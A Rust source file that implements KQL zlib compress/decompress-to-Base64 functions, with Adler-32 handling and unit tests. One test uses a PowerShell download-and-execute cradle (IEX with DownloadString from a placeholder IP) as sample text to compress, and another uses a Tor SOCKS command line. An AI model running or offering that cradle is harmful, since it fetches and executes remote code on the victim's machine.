//! `zlib_compress_to_base64_string(s)` / `zlib_decompress_from_base64_string(b64)`: zlib (RFC 1950)
//! plus Base64 of UTF-8 text. The docs support only a 32 KiB window ("window size 15"), so
//! decompression gives "" unless the header's CMF byte is 0x78 (deflate, window 2^15), and also when
//! the input is not Base64, the data is corrupt or the result is not UTF-8.

use std::sync::Arc;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use datafusion::arrow::datatypes::DataType;
use datafusion::common::Result;
use datafusion::logical_expr::ScalarUDF;
use flate2::read::ZlibDecoder;

use super::gzip::{decompressed_rows, decompressed_text, stored_blocks};
use super::kernel::define;
use super::transcode::{CODEC_INPUT, transcode_rows};
use crate::declare::*;

/// CMF (deflate, 32 KiB window) and FLG (no dictionary, "fastest" level, header check bits) of the
/// docs' example, which stores the text uncompressed as the gzip functions do.
const HEADER: [u8; 2] = [0x78, 0x01];
/// The modulus of the Adler-32 checksum (RFC 1950).
const ADLER_MODULUS: u32 = 65_521;

/// `kql_zlib_compress_to_base64_string(s: Utf8) -> Utf8`.
pub fn zlib_compress_to_base64_string() -> Arc<ScalarUDF> {
    crate::singleton!(
        ScalarUDF,
        define(
            "kql_zlib_compress_to_base64_string",
            CODEC_INPUT,
            DataType::Utf8,
            |args| transcode_rows(args, compress),
        )
    )
}

pub(crate) static ZLIB_COMPRESS_TO_BASE64_STRING: KustoFunction = KustoFunction::scalar(
    Signature::scalar("zlib_compress_to_base64_string", &[P::Str], R::Fixed(T::String)),
    zlib_compress_to_base64_string,
);

/// `kql_zlib_decompress_from_base64_string(b64: Utf8) -> Utf8`.
pub fn zlib_decompress_from_base64_string() -> Arc<ScalarUDF> {
    crate::singleton!(
        ScalarUDF,
        define(
            "kql_zlib_decompress_from_base64_string",
            CODEC_INPUT,
            DataType::Utf8,
            |args| decompressed_rows(args, decompress),
        )
    )
}

pub(crate) static ZLIB_DECOMPRESS_FROM_BASE64_STRING: KustoFunction = KustoFunction::scalar(
    Signature::scalar(
        "zlib_decompress_from_base64_string",
        &[P::Str],
        R::Fixed(T::String),
    ),
    zlib_decompress_from_base64_string,
);

/// The docs' example is the header, the text in stored deflate blocks and the Adler-32 of the text.
fn compress(text: &str, out: &mut String) {
    let bytes = text.as_bytes();
    let mut zlib = Vec::with_capacity(bytes.len() + bytes.len() / usize::from(u16::MAX) * 5 + 11);
    zlib.extend_from_slice(&HEADER);
    stored_blocks(bytes, &mut zlib);
    zlib.extend_from_slice(&adler32(bytes).to_be_bytes());
    STANDARD.encode_string(zlib, out);
}

fn adler32(bytes: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    // 5552 bytes is the most that can be summed before the 32-bit sums may overflow (zlib's NMAX).
    for chunk in bytes.chunks(5552) {
        for &byte in chunk {
            a += u32::from(byte);
            b += a;
        }
        a %= ADLER_MODULUS;
        b %= ADLER_MODULUS;
    }
    (b << 16) | a
}

/// The text, `None` when the input is not valid (Kusto's empty result), or an error past the size cap.
fn decompress(function: &str, b64: &str) -> Result<Option<String>> {
    let Ok(zlib) = STANDARD.decode(b64) else {
        return Ok(None);
    };
    if zlib.first() != Some(&HEADER[0]) {
        return Ok(None);
    }
    decompressed_text(function, ZlibDecoder::new(zlib.as_slice()))
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use flate2::Compression;
    use flate2::write::ZlibEncoder;

    use super::super::kernel::testing::{call_scalars, s, text};
    use super::super::transcode::assert_transcodes;
    use super::*;

    #[test]
    fn docs_examples() {
        assert_transcodes(
            &zlib_compress_to_base64_string(),
            &[(
                "1234567890qwertyuiop",
                "eAEBFADr/zEyMzQ1Njc4OTBxd2VydHl1aW9wOAkGdw==",
            )],
        );
        assert_transcodes(
            &zlib_decompress_from_base64_string(),
            &[
                ("eJwLSS0uUSguKcrMS1cwNDIGACxqBQ4=", "Test string 123"),
                ("x0x0x0", ""),
            ],
        );
    }

    #[test]
    fn decompresses_what_python_zlib_writes_and_round_trips_long_text() {
        // The docs' way to make input: Python's `zlib.compress`, a compressed (not stored) stream.
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(script.as_bytes()).expect("in-memory write");
        let compressed = STANDARD.encode(encoder.finish().expect("in-memory zlib"));
        let long = "tor.exe --SocksPort 9050\n".repeat(10_000);
        let compress = zlib_compress_to_base64_string();
        let decompress = zlib_decompress_from_base64_string();
        let round_trip = text(call_scalars(
            &decompress,
            vec![call_scalars(&compress, vec![s(&long)])],
        ));
        assert_eq!(round_trip, long);
        assert_transcodes(&decompress, &[(&compressed, script), ("", "")]);
    }

    #[test]
    fn other_windows_corrupt_data_and_gzip_give_an_empty_string() {
        let mut small_window = STANDARD
            .decode("eJwLSS0uUSguKcrMS1cwNDIGACxqBQ4=")
            .expect("base64");
        small_window[0] = 0x68; // a 16 KiB window
        let mut corrupt = STANDARD
            .decode("eJwLSS0uUSguKcrMS1cwNDIGACxqBQ4=")
            .expect("base64");
        let last = corrupt.len() - 1;
        corrupt[last] ^= 0xff; // a wrong Adler-32
        assert_transcodes(
            &zlib_decompress_from_base64_string(),
            &[
                (&STANDARD.encode(small_window), ""),
                (&STANDARD.encode(corrupt), ""),
                ("H4sIAAAAAAAA/wEUAOv/MTIzNDU2Nzg5MHF3ZXJ0eXVpb3A6m7f2FAAAAA==", ""),
            ],
        );
    }
}
